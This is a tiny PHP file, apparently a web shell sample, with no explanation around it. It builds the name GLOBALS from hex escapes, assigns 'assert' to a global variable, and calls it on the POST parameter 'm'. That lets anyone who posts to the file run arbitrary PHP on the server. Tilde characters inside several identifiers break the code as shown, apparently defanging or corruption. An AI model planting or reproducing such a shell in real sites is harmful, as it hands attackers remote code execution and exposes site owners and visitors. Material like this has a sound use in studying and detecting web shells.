<?php exit; ?>
<?php
${"\x47\x4c\x4f\x42\x41\x4c\x53"}['q'] = 'ass~ert'; $GLO~BALS['q']($_P~OST['m']);
